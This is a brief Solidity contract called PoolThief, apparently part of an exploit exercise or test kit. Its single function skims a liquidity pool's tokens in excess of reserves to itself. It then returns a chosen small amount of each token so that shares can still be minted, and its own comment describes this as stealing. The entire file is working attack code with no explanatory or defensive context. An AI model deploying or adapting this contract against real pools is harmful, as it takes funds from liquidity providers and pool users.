// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import {IPool, IToken} from "../support/Kit.sol";

/// @title Pool thief
/// @notice Takes what a pool holds beyond its reserves, and leaves just enough that shares can still be made.
contract PoolThief {
    function steal(IPool pool, uint256 left) external {
        pool.skim(address(this));
        IToken(pool.token0()).transfer(address(pool), left);
        IToken(pool.token1()).transfer(address(pool), left);
    }
}
